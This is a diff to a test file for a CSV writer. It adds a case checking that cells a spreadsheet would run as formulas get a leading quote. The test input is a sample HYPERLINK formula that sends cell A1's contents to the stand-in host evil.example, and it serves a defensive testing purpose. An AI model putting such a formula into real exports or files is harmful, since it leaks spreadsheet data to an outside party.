@@ -8,4 +8,10 @@ describe("CSV", () => {
   it("adds a BOM for Excel on request", () => {
     expect(toCsv(["名前"], [["みなと"]], { bom: true })).toBe("\uFEFF名前\r\nみなと\r\n");
   });
+  it("writes text a spreadsheet would run as a formula with a leading quote, numbers as they are", () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"x")';
+    expect(toCsv(null, [[name, "+81", "-1200", "@SUM(A1)", "\tx", "\rx", -1200, 0, "a=b"]])).toBe(
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",'+81,'-1200,'@SUM(A1),'\tx,"'\rx",-1200,0,a=b\r\n`,
+    );
+  });
 });
